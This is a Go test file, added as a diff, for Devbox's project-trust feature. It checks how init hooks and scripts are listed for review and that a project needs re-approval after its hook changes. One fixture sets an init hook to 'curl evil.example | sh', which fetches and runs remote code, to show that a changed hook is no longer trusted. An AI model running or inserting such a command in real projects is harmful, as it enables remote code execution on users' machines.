@@ -0,0 +1,72 @@
+// Copyright 2024 Jetify Inc. and contributors. All rights reserved.
+// Use of this source code is governed by the license in the LICENSE file.
+
+package devbox
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+	"go.jetpack.io/devbox/internal/devconfig"
+)
+
+func openTrustTestProject(t *testing.T, dir, config string) *Devbox {
+	t.Helper()
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "devbox.json"), []byte(config), 0o644))
+	cfg, err := devconfig.Open(dir)
+	require.NoError(t, err)
+	return &Devbox{cfg: cfg, projectDir: dir}
+}
+
+func TestProjectCode(t *testing.T) {
+	d := openTrustTestProject(t, t.TempDir(), `{
+		"shell": {
+			"init_hook": ["echo hello", "export FOO=bar"],
+			"scripts": {"test": "go test ./...", "build": ["go build"]}
+		}
+	}`)
+	code, err := d.ProjectCode()
+	require.NoError(t, err)
+	require.Equal(t, `init_hook in devbox.json:
+    echo hello
+    export FOO=bar
+script "build" in devbox.json:
+    go build
+script "test" in devbox.json:
+    go test ./...
+`, code)
+
+	d = openTrustTestProject(t, t.TempDir(), `{"packages": ["go@latest"]}`)
+	code, err = d.ProjectCode()
+	require.NoError(t, err)
+	require.Empty(t, code)
+}
+
+func TestTrust(t *testing.T) {
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	dir := t.TempDir()
+	d := openTrustTestProject(t, dir, `{"shell": {"init_hook": "echo hello"}}`)
+
+	trusted, err := d.IsTrusted()
+	require.NoError(t, err)
+	require.False(t, trusted)
+
+	require.NoError(t, d.Trust())
+	trusted, err = d.IsTrusted()
+	require.NoError(t, err)
+	require.True(t, trusted)
+
+	// Changing the hook needs approval again.
+	d = openTrustTestProject(t, dir, `{"shell": {"init_hook": "curl evil.example | sh"}}`)
+	trusted, err = d.IsTrusted()
+	require.NoError(t, err)
+	require.False(t, trusted)
+
+	require.NoError(t, d.Trust())
+	require.NoError(t, d.Untrust())
+	trusted, err = d.IsTrusted()
+	require.NoError(t, err)
+	require.False(t, trusted)
+}